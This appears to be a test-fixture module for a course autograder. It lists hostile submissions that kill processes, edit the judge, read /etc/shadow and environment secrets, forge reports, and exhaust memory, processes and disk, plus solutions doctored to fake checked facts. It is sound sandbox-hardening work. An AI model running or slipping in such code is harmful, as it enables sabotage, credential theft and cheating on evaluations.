"""Hostile submissions, as a student who knows a little Python would write them.

Each attack is code placed in an exercise file of an otherwise honest submission. What the honest
part deserves is known (`Attack.deserves`: points per exercise), so a test can say the attack
gained nothing. The attacks are grouped by what they go after: another submission, the results,
the grader itself, the secrets (solutions, hidden checks, environment), the machine (memory,
processes, disk, network), and the report channel.
"""

from __future__ import annotations

import shutil
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
MARKER = "hostile-7f3a"  # in the command line of every process an attack leaves, so a test can look for it
EX01, EX02, EX03 = "ex01_process_group.py", "ex02_data_sharding.py", "ex03_train_ddp.py"
FULL = {EX01: 5.0, EX02: 5.0, EX03: 8.0}  # points of the exercises the submissions below hold


@dataclass
class Attack:
    name: str
    code: str  # appended to `file` at the top level: it runs at import and may redefine the functions
    file: str = EX01
    honest: dict[str, str] = field(default_factory=lambda: {EX01: "stub"})  # file -> "stub" | "solution"
    marked: bool = False  # it uses a primitive a forgery needs: the tamper scan marks it for review

    @property
    def deserves(self) -> dict[str, float]:
        return {name: FULL[name] if kind == "solution" else 0.0 for name, kind in self.honest.items()}

    def write(self, folder: Path, context: dict[str, str]) -> Path:
        folder.mkdir(parents=True)
        for name, kind in self.honest.items():
            source = (REPO / ("solutions" if kind == "solution" else "exercises") / name).read_text()
            if name == self.file:
                source += "\n" + textwrap.dedent(self.code).format(**context)
            (folder / name).write_text(source)
        return folder


def victim(folder: Path) -> Path:
    folder.mkdir(parents=True)
    for name in FULL:
        shutil.copyfile(REPO / "solutions" / name, folder / name)
    return folder


# The report of a rank whose ex01 passed, as an attack that read the rank runtime forges it: framed as the grader's
# wire frames a report, the rank and world size read from the runtime's `spec` up the stack (import runs inside it).
FORGED_EX01 = """
        import json as _j, os as _o, struct as _sr, sys as _y

        def _forged_frame():
            frame = _y._getframe()
            while frame is not None and not isinstance(frame.f_locals.get("spec"), dict):
                frame = frame.f_back
            spec = frame.f_locals["spec"]
            rank, world = spec["rank"], spec["world_size"]
            port = _o.environ.get("MASTER_PORT")
            init = {{"backend": None, "init_method": None, "rank": rank, "world_size": world, "store_port": None,
                    "master_addr": "127.0.0.1", "master_port": port}}
            facts = {{
                "grader_port": port, "init_calls": [init], "device_bindings": {{}}, "initialized": True,
                "group": {{"rank": rank, "world_size": world, "backend": "gloo", "backend_config": "cpu:gloo"}},
                "all_reduce": [world * (world + 1) / 2], "broadcast": [100.0 + world - 1],
                "initialized_after_cleanup": False,
            }}
            body = _j.dumps({{"facts": facts, "error": None, "seconds": 0.1}}).encode()
            return _sr.pack("!Q", len(body)) + body
        _frame = _forged_frame()
"""

ATTACKS = [
    # --- other submissions -------------------------------------------------------------------
    Attack(
        "steals_and_spoils_others",
        """
        import glob as _g, os as _o
        for _p in _g.glob("/tmp/**/ex0[1-3]_*.py", recursive=True) + _g.glob("{tmp}/**/ex0[1-3]_*.py", recursive=True):
            try:
                if _o.path.realpath(_p) != _o.path.realpath(__file__) and "def setup_ddp" in open(_p).read():
                    exec(compile(open(_p).read(), _p, "exec"))
                    open(_p, "w").write("def setup_ddp(*a, **k):\\n    raise NotImplementedError\\n")
            except OSError:
                pass
        """,
        marked=True,
    ),
    # --- the results --------------------------------------------------------------------------
    Attack(
        "rewrites_results_from_proc_cmdline",
        """
        import os as _o, json as _j, glob as _g
        for _pid in [p for p in _o.listdir("/proc") if p.isdigit()]:
            try:
                _args = open(f"/proc/{{_pid}}/cmdline", "rb").read().split(b"\\0")
            except OSError:
                continue
            if b"--out" in _args:
                _out = _args[_args.index(b"--out") + 1].decode()
                for _r in _g.glob(_out + "/*/results.json"):
                    try:
                        open(_r, "w").write(_j.dumps({{"score": 0, "tests": []}}))
                    except OSError:
                        pass
        """,
    ),
    Attack(
        "daemon_rewrites_results_after_the_batch",
        """
        import os as _o, subprocess as _s, sys as _y
        _s.Popen([_y.executable, "-c", "import time, glob, json\\n# {marker}\\n"
                  "for _ in range(300):\\n"
                  "    time.sleep(0.2)\\n"
                  "    for r in glob.glob('{out}/*/results.json'):\\n"
                  "        open(r, 'w').write(json.dumps({{'score': 63, 'tests': []}}))"],
                 start_new_session=True, stdout=_s.DEVNULL, stderr=_s.DEVNULL)
        if _o.fork() == 0:
            _o.setsid()
            if _o.fork() == 0:
                _o.execvp("sleep", ["sleep", "9{marker_number}"])
            _o._exit(0)
        """,
    ),
    # --- the grader ----------------------------------------------------------------------------
    Attack(
        "kills_every_process_it_can_see",
        """
        import os as _o, signal as _sg
        for _pid in [int(p) for p in _o.listdir("/proc") if p.isdigit()]:
            try:
                if b"grader" in open(f"/proc/{{_pid}}/cmdline", "rb").read() and _pid != _o.getpid():
                    _o.kill(_pid, _sg.SIGKILL)
            except OSError:
                pass
        """,
    ),
    Attack(
        "edits_the_judge",
        """
        import pathlib as _pl
        for _root in (_pl.Path(__import__("grader").__file__).parents[1], _pl.Path("{course}")):
            for _f in list(_root.glob("grader/checks/*/checks.py")) + list(_root.glob("grader/checks/*/hidden.py")):
                try:
                    with open(_f, "a") as _w:
                        _w.write("\\nraise SystemExit('judge edited by a submission')\\n")
                except OSError:
                    pass
        """,
        marked=True,
    ),
    # --- the secrets --------------------------------------------------------------------------
    Attack(
        "loads_the_solution",
        """
        import pathlib as _pl
        for _root in (_pl.Path(__import__("grader").__file__).parents[1], _pl.Path("{course}")):
            _sol = _root / "solutions" / "ex01_process_group.py"
            try:
                exec(compile(_sol.read_text(), str(_sol), "exec"))
                break
            except OSError:
                pass
        """,
        marked=True,
    ),
    Attack(
        "shows_secrets_in_its_messages",
        """
        import os as _o, pathlib as _pl
        _found = []
        for _f in ("{course}/grader/checks/ex02_data_sharding/hidden.py", "{course}/solutions/ex03_train_ddp.py",
                   "/etc/passwd", "/etc/shadow"):
            try:
                _found.append(_pl.Path(_f).read_text()[:3000])
            except OSError:
                pass
        _found.append(repr(dict(_o.environ)))
        print("\\n".join(_found))

        def setup_ddp(rank, world_size, backend=None):
            raise RuntimeError("\\n".join(_found))
        """,
    ),
    Attack(
        "forges_facts_by_patching_the_encoder",
        """
        import os as _o, sys as _y
        import grader.engine.wire as _w
        _real = _w.encode

        def _forged(report):
            frame = _y._getframe()
            while frame is not None and not isinstance(frame.f_locals.get("spec"), dict):
                frame = frame.f_back
            spec = frame.f_locals["spec"]
            rank, world = spec["rank"], spec["world_size"]
            port = _o.environ.get("MASTER_PORT")
            init = {{"backend": None, "init_method": None, "rank": rank, "world_size": world,
                    "master_addr": "127.0.0.1", "master_port": port}}
            report["error"] = None
            report["facts"] = {{
                "grader_port": port, "init_calls": [init], "set_device_calls": [], "initialized": True,
                "group": {{"rank": rank, "world_size": world, "backend": "gloo"}},
                "all_reduce": [world * (world + 1) / 2], "broadcast": [100.0 + world - 1],
                "initialized_after_cleanup": False,
                "events": [{{"call": "set_device", "device": rank}}, {{"call": "init_process_group", **init,
                                                                       "backend": "nccl"}}],
            }}
            return _real(report)
        _w.encode = _forged
        """,
        marked=True,
    ),
    Attack(  # rebinds every name of the report path it can think of, each to a forger
        "rebinds_the_report_path",
        FORGED_EX01
        + """
        import builtins as _b
        import grader.engine.rank_runtime as _rt, grader.engine.wire as _w
        _real_write, _real_dumps = _o.write, _j.dumps
        _o.write = lambda fd, data: _real_write(fd, _frame if bytes(data[8:10]) == b'{{"' else data)

        def _dumps(obj, *args, **kw):
            return _frame[8:].decode() if isinstance(obj, dict) and "facts" in obj else _real_dumps(obj, *args, **kw)
        _j.dumps = _dumps
        _w.encode = _w._encoder = lambda *a: _frame
        _w.sealed_encoder = lambda torch: (bytes(32), lambda report: _frame)
        for _name in [n for n in vars(_rt) if callable(getattr(_rt, n)) and not n[0].isupper()]:
            setattr(_rt, _name, lambda *a, **k: _real_write(3, _frame))
        """,
        marked=True,
    ),
    Attack(  # writes a forged report into every socket it holds (its report channel among them), then exits
        "forges_its_report_on_the_channel",
        FORGED_EX01
        + """
        import stat as _st
        for _fd in range(3, 1024):
            try:
                if _st.S_ISSOCK(_o.fstat(_fd).st_mode):
                    _o.write(_fd, _frame)
            except OSError:
                pass
        _o._exit(0)
        """,
        marked=True,
    ),
    # --- the machine --------------------------------------------------------------------------
    Attack(
        "holds_too_much_memory",
        """
        def setup_ddp(rank, world_size, backend=None):
            import time
            hog = bytearray(5 << 30)
            for i in range(0, len(hog), 4096):
                hog[i] = 1
            time.sleep(60)
        """,
    ),
    Attack(
        "forks_without_end",
        """
        def setup_ddp(rank, world_size, backend=None):
            import os, time
            for _ in range(3000):
                try:
                    if os.fork() == 0:
                        time.sleep(60)
                        os._exit(0)
                except OSError:
                    break
            time.sleep(60)
        """,
    ),
    Attack(
        "fills_the_disk",
        """
        def setup_ddp(rank, world_size, backend=None):
            import os
            block = b"x" * (1 << 20)
            for folder in ("/tmp", os.getcwd(), "{tmp}"):
                try:
                    with open(os.path.join(folder, "filler-%d" % rank), "wb") as f:
                        for _ in range(4096):
                            f.write(block)
                except OSError:
                    pass
            raise RuntimeError("disk filled as far as it goes")
        """,
    ),
    Attack(
        "reaches_the_network",
        """
        import socket as _k
        try:
            with _k.create_connection(("127.0.0.1", {port}), timeout=1) as _c:
                _c.sendall(b"hello from a submission")
        except OSError:
            pass
        try:
            _k.create_connection(("1.1.1.1", 53), timeout=1)
        except OSError:
            pass
        """,
    ),
    # --- the report channel --------------------------------------------------------------------
    Attack(
        "sends_a_deeply_nested_report",
        """
        def setup_ddp(rank, world_size, backend=None):
            import os, struct, sys
            frame = sys._getframe()
            while "report_fd" not in frame.f_locals:
                frame = frame.f_back
            body = b"[" * 20_000 + b"]" * 20_000  # within the size and value limits: too deep to parse
            os.write(frame.f_locals["report_fd"], struct.pack("!Q", len(body)) + body)
            os._exit(0)
        """,
        honest={EX01: "stub", EX02: "solution", EX03: "solution"},
        marked=True,
    ),
    Attack(
        "sends_an_oversized_report",
        """
        def setup_ddp(rank, world_size, backend=None):
            import os, struct, sys
            frame = sys._getframe()
            while "report_fd" not in frame.f_locals:
                frame = frame.f_back
            os.write(frame.f_locals["report_fd"], struct.pack("!Q", 1 << 40) + b"{{")
            os._exit(0)
        """,
        honest={EX01: "stub", EX02: "solution", EX03: "solution"},
        marked=True,
    ),
    Attack(
        "writes_garbage_to_every_pipe",
        """
        def setup_ddp(rank, world_size, backend=None):
            import os, stat
            for fd in range(3, 64):
                try:
                    if stat.S_ISFIFO(os.fstat(fd).st_mode):
                        os.set_blocking(fd, False)
                        os.write(fd, b"\\xff" * 100_000)
                except OSError:
                    pass
            os._exit(0)
        """,
        honest={EX01: "stub", EX02: "solution", EX03: "solution"},
        marked=True,
    ),
]


@dataclass
class Forgery:
    """A reference solution changed to fake one fact the grader reads from an object it hands back (a subclass that
    lies about its size, a launcher that writes the grader's records itself): `check` passed on it before the grader
    read those facts from what the code cannot choose (grader/engine/exact.py, ex04's ProcessWatch); now it fails,
    saying `said`."""

    name: str
    exercise: str
    check: str
    edits: list[tuple[str, str]]  # (text of the solution, what the forgery puts there)
    said: str

    def write(self, folder: Path) -> Path:
        source = (REPO / "solutions" / f"{self.exercise}.py").read_text()
        for old, new in self.edits:
            assert old in source, f"{self.name}: the solution no longer holds {old!r}"
            source = source.replace(old, new)
        path = folder / f"{self.exercise}.py"
        path.write_text(source)
        return path


_STRANGERS = "[int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) not in (os.getpid(), 1)]"

FORGERIES = [
    Forgery(  # every rank holds the state of every parameter; a dict subclass hides the foreign ones' buffers
        "ex13_hides_unsharded_state_in_a_dict_subclass",
        "ex13_zero1",
        "state_is_sharded",
        [
            (
                "    optimizer = torch.optim.AdamW(mine, lr=lr) if mine else None\n",
                "    optimizer = torch.optim.AdamW(params, lr=lr)\n\n"
                "    class Quiet(dict):\n"
                "        def values(self):\n"
                "            return []\n",
            ),
            (
                "        if optimizer is not None:\n            optimizer.step()\n",
                "        optimizer.step()\n        for index, p in enumerate(params):\n"
                "            if index not in shards[rank] and type(optimizer.state[p]) is dict:\n"
                "                optimizer.state[p] = Quiet(optimizer.state[p])\n",
            ),
        ],
        "rank 0's optimizer state holds a dict subclass `Quiet`; the contract asks for a plain dict",
    ),
    Forgery(  # one element per bucket, a subclass claiming the bucket's size (its torch function off: no recursion)
        "ex12_claims_its_buckets_size_with_a_tensor_subclass",
        "ex12_overlap_ddp",
        "buckets_by_size",
        [
            (
                "        flat = torch.cat([p.grad.reshape(-1) for p in bucket])\n"
                "        in_flight.append((dist.all_reduce(flat, async_op=True), flat, bucket))\n",
                "        flat = torch.cat([p.grad.reshape(-1) for p in bucket])\n"
                "        claim = torch.zeros(1).as_subclass(Claim)\n"
                "        claim.claimed = flat.numel()\n"
                "        in_flight.append((dist.all_reduce(claim, async_op=True), flat * world_size, bucket))\n",
            ),
            (
                "    bucket: list[nn.Parameter] = []",
                "    class Claim(torch.Tensor):\n"
                "        __torch_function__ = torch._C._disabled_torch_function_impl\n\n"
                "        def numel(self):\n"
                "            return self.claimed\n\n"
                "    bucket: list[nn.Parameter] = []",
            ),
        ],
        "rank 0's all_reduce call holds a torch.Tensor subclass `Claim`; the contract asks for plain tensors",
    ),
    Forgery(  # a naive all-to-all of the whole tensor, each message a subclass claiming a ring's share of it
        "ex08_claims_a_rings_traffic_with_a_tensor_subclass",
        "ex08_ring_allreduce",
        "ring_traffic",
        [
            (
                "    flat = tensor.view(-1)\n",
                "    class Claim(torch.Tensor):\n"
                "        __torch_function__ = torch._C._disabled_torch_function_impl\n\n"
                "        def numel(self):\n"
                "            return 2 * (tensor.view(-1).shape[0] // world)\n\n"
                "    whole = tensor.detach().clone()\n"
                "    peers = [peer for peer in range(world) if peer != rank]\n"
                "    requests = [dist.isend(whole.as_subclass(Claim), peer) for peer in peers]\n"
                "    for peer in peers:\n"
                "        received = torch.empty_like(whole)\n"
                "        dist.recv(received, peer)\n"
                "        tensor += received\n"
                "    for request in requests:\n"
                "        request.wait()\n"
                "    return\n"
                "    flat = tensor.view(-1)\n",
            ),
        ],
        "rank 0's send call holds a torch.Tensor subclass `Claim`; the contract asks for plain tensors",
    ),
    Forgery(  # every rank gathers whole tensors before dcp.save; a subclass has each claim one element
        "ex17_hides_a_gathered_state_dict_in_a_tensor_subclass",
        "ex17_dcp_reshard",
        "every_rank_writes",
        [
            ("import torch\n", "import torch\nfrom torch.distributed.checkpoint.state_dict import StateDictOptions\n"),
            (
                "    model_state, optimizer_state = get_state_dict(model, optimizer)\n    dcp.save(",
                "    class Small(torch.Tensor):\n"
                "        __torch_function__ = torch._C._disabled_torch_function_impl\n\n"
                "        def numel(self):\n"
                "            return 1\n\n"
                "    def small(value):\n"
                "        if isinstance(value, dict):\n"
                "            return {key: small(item) for key, item in value.items()}\n"
                "        if isinstance(value, list):\n"
                "            return [small(item) for item in value]\n"
                "        return value.as_subclass(Small) if isinstance(value, torch.Tensor) else value\n\n"
                "    full = StateDictOptions(full_state_dict=True)\n"
                "    model_state, optimizer_state = get_state_dict(model, optimizer, options=full)\n"
                "    model_state, optimizer_state = small(model_state), small(optimizer_state)\n"
                "    dcp.save(",
            ),
        ],
        "rank 0's state dict holds a torch.Tensor subclass `Small`; the contract asks for plain tensors or DTensors",
    ),
    Forgery(  # writes the failing rank's records itself, naming a pid no process holds, and raises the planted error
        "ex04_writes_the_failing_ranks_records_itself",
        "ex04_launch",
        "propagates_errors",
        [
            (
                "    results = mp.get_context(start_method).SimpleQueue()\n",
                "    import os\n"
                "    if getattr(fn, '__name__', '') == 'fail_on_last_rank':\n"
                "        import time\n"
                "        last, folder = world_size - 1, args[0]\n"
                "        open(os.path.join(folder, f'started-{last}'), 'w').write(str(4_194_000 + last))\n"
                "        open(os.path.join(folder, f'raised-{last}'), 'w').write(repr(time.time()))\n"
                "        raise ValueError('planted failure on the last rank')\n"
                "    results = mp.get_context(start_method).SimpleQueue()\n",
            ),
        ],
        "rank 1 never ran in a process launch_distributed started",
    ),
    Forgery(  # runs fn in the launcher itself, then reports unrelated processes' pids in the results and records
        "ex04_reports_pids_of_unrelated_processes",
        "ex04_launch",
        "runs_every_rank",
        [
            (
                "    results = mp.get_context(start_method).SimpleQueue()\n",
                "    import os\n"
                "    if getattr(fn, '__name__', '') == 'report_identity':\n"
                "        results = [fn(rank, world_size, *args) for rank in range(world_size)]\n"
                f"        strangers = {_STRANGERS}\n"
                "        for rank, result in enumerate(results):\n"
                "            result['pid'] = strangers[rank]\n"
                "            open(os.path.join(args[1], f'started-{rank}'), 'w').write(str(strangers[rank]))\n"
                "        return results\n"
                "    results = mp.get_context(start_method).SimpleQueue()\n",
            ),
        ],
        "never ran in a process launch_distributed started",
    ),
]
